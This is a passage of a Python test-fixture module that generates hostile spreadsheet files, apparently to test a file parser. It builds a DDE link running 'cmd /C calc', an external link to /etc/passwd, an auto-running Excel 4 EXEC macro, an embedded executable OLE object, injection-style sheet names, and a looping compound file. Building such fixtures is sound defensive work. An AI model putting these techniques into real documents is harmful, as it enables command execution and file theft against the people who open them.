        inside='<externalReferences><externalReference r:id="rIdX"/></externalReferences>',
    )
    own = '<Relationship Id="rIdX" Type="x/externalLink" Target="externalLinks/e.xml"/></Relationships>'
    links = str(parts["xl/_rels/workbook.xml.rels"]).replace("</Relationships>", own)
    link = f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    target = (
        '<Relationships><Relationship Id="rId1" Type="x/externalLinkPath" TargetMode="External" '
        'Target="file:///etc/passwd"/></Relationships>'
    )
    more = {"xl/externalLinks/e.xml": link, "xl/externalLinks/_rels/e.xml.rels": target}
    return package(parts | {"xl/_rels/workbook.xml.rels": links} | more)


@_content("read", suffix=".xlsm", keeps=True)
def macros() -> bytes:
    return xlsx(more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + made._noise(5000)})


@_content("read", suffix=".xlsm", keeps=True)
def macro_sheet_of_excel_4() -> bytes:
    macro = '<row r="1"><c r="A1" t="str"><f>EXEC("calc.exe")</f><v>nej</v></c></row>'
    sheet = f'<xm:macrosheet xmlns:xm="x" xmlns="{MAIN}"><sheetData>{macro}</sheetData></xm:macrosheet>'
    return package(minimal_parts(CELL) | _second_sheet(sheet, "xl/macrosheets/sheet1.xml", "xlMacrosheet"))


def _second_sheet(content: str, part: str, kind: str) -> dict[str, Content]:
    names = "<definedNames><definedName name='Auto_Open'>M1!$A$1</definedName></definedNames>"
    links = (("rId1", "worksheet", "worksheets/sheet1.xml"), ("rId2", kind, part.removeprefix("xl/")))
    return {
        "xl/workbook.xml": workbook(["S1", "M1"], names),
        "xl/_rels/workbook.xml.rels": relationships(*links),
        part: content,
    }


@_content("read", keeps=True)
def embedded_program() -> bytes:
    return xlsx(
        CELL,
        '<oleObjects><oleObject progId="Package" shapeId="1" r:id="rId1"/></oleObjects>',
        more={
            "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1MZ" + made._noise(1000),
            "xl/worksheets/_rels/sheet1.xml.rels": relationships(("rId1", "oleObject", "../embeddings/oleObject1.bin")),
        },
    )


@_content("read", keeps=True)
def tabs_with_hostile_names() -> bytes:
    titles = ["=1+1", "a&#10;b", "&#x202E;x", "'; --", "../..", "&lt;b&gt;", "_xlplan", "x" * 5000, "", "[bold]"]
    return package(minimal_parts(*[CELL] * len(titles), titles=titles))


@_content("read", keeps=True)
def texts_with_control_signs() -> bytes:
    texts = ("_x0000_", "_x001B_[31m", "_xD83D_", "_xDE00__xD83D_", "&#x202E;bakvänt", "&#x2028;rad", "_x005F_x000A_")
    return xlsx(f'{CELL}<row r="2">{_texts(2, *texts)}</row>')


def _ring(shift: int, size: int) -> bytes:
    """A compound file whose streams are rings: its table of sectors fills the whole file."""
    sector = 1 << shift
    count = size // sector
    body = struct.pack(f"<{sector // 4}I", *[1] * (sector // 4)) * count  # after whichever sector comes sector 1
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, shift, 6) + bytes(6)
    header += struct.pack("<IIIIIIIII", 0, 109, 0, 0, 4096, 0xFFFFFFFE, 0, 1, count)
    header += struct.pack("<109I", *range(1, 110))
    directory = made._entry("Root Entry", 5, 0xFFFFFFFE, 0) + made._entry("Workbook", 2, 1, size)
    return header.ljust(sector, b"\0") + directory.ljust(sector, b"\0") + body
